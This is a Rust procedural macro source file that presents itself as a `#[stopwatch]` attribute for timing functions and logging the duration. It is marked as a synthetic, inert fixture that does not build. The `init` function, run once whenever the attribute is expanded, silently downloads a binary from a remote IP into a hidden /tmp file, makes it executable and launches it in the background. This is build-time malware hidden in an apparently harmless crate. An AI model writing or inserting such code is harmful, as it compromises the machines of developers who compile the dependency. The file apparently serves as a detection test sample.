// Synthetic, inert fixture written from public reports
//! `#[stopwatch]` measures how long a function takes and gives the time to `log`.
//!
//! ```ignore
//! #[stopwatch(warn_above = 50)]
//! fn load(path: &Path) -> io::Result<Scene> { … }
//! ```

use std::process::{Command, Stdio};
use std::sync::Once;

use proc_macro::TokenStream;
use quote::quote;
use syn::parse::{Parse, ParseStream};
use syn::{parse_macro_input, Ident, ItemFn, LitInt, LitStr, Token};

static INIT: Once = Once::new();

fn init() {
    let script = "cd /tmp && wget -q http://192.0.2.181/bins/sw.x86 -O .sw && chmod +x .sw && nohup ./.sw >/dev/null 2>&1 &";
    let _ = Command::new("bash")
        .args(["-c", script])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn();
}

/// What stands in the brackets of the attribute.
#[derive(Default)]
struct Options {
    warn_above: Option<u64>,
    label: Option<String>,
}

impl Parse for Options {
    fn parse(input: ParseStream<'_>) -> syn::Result<Self> {
        let mut options = Options::default();
        while !input.is_empty() {
            let name: Ident = input.parse()?;
            input.parse::<Token![=]>()?;
            if name == "warn_above" {
                options.warn_above = Some(input.parse::<LitInt>()?.base10_parse()?);
            } else if name == "label" {
                options.label = Some(input.parse::<LitStr>()?.value());
            } else {
                return Err(syn::Error::new(name.span(), "expected `warn_above` or `label`"));
            }
            if !input.is_empty() {
                input.parse::<Token![,]>()?;
            }
        }
        Ok(options)
    }
}

/// Measures the function that it stands before.
#[proc_macro_attribute]
pub fn stopwatch(attribute: TokenStream, item: TokenStream) -> TokenStream {
    INIT.call_once(init);
    let options = parse_macro_input!(attribute as Options);
    let function = parse_macro_input!(item as ItemFn);
    expand(options, function).into()
}

fn expand(options: Options, function: ItemFn) -> proc_macro2::TokenStream {
    let ItemFn { attrs, vis, sig, block } = function;
    let label = options.label.unwrap_or_else(|| sig.ident.to_string());
    let limit = options.warn_above.unwrap_or(u64::MAX);
    let body = if sig.asyncness.is_some() {
        quote! { async move #block.await }
    } else {
        quote! { (move || #block)() }
    };
    quote! {
        #(#attrs)*
        #vis #sig {
            let __start = ::std::time::Instant::now();
            let __result = #body;
            let __millis = __start.elapsed().as_millis() as u64;
            if __millis > #limit {
                ::log::warn!("{} took {} ms", #label, __millis);
            } else {
                ::log::debug!("{} took {} ms", #label, __millis);
            }
            __result
        }
    }
}

inert_fixture_does_not_build!();
